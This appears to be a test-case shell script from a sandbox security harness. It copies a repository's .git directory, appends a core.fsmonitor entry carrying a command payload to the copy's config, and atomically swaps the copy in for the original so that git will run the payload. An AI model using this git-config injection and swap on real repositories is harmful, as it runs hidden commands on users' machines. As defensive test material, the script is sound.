#!/bin/sh
# Exchanges .git with another directory in one step.
# Matters: renameat2 needs no moment without .git.
# Held by: as dotgit_moved.
# judge: host
# harm: owned guarded
. "$HOSTILE_STAGE/workspace/attack/hostile.sh"
cp -r .git copy
printf '[core]\n\tfsmonitor = "%s; false"\n' "$payload" >>copy/config
"$HOSTILE_STAGE/workspace/attack/hostile" git/exchange .git copy
